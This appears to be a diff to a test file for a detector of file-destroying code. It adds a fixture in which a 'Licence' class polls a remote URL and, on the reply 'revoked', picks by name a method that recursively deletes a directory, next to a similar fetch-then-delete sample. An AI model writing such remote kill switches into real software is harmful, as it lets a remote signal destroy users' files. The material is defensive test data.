@@ -114,6 +114,13 @@ examine(destroysFiles, {
       weight: 'strong',
     },
     {
+      when: 'the word chooses the method by its name',
+      files: {
+        'index.js': `const fs = require('fs'), https = require('https'); const STATES = Object.freeze({ OFF: 'revoked' }); class Licence { poll() { https.get('https://s.invalid/flag', answer => { let text = ''; answer.on('data', piece => (text += piece)); answer.on('end', () => this[text.trim() === STATES.OFF ? 'expire' : 'keep']()); }); } keep() {} expire() { fs.rmSync('./src-inert', { recursive: true }); } } exports.watch = () => new Licence().poll();`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the word is all that it answers',
       files: {
         'index.js': `const fs = require('fs'); exports.check = () => fetch('https://s.invalid/f').then(r => r.text()).then(text => { if (text.trim() === 'gone') fs.rm('.git-inert', { recursive: true }, () => {}); });`,
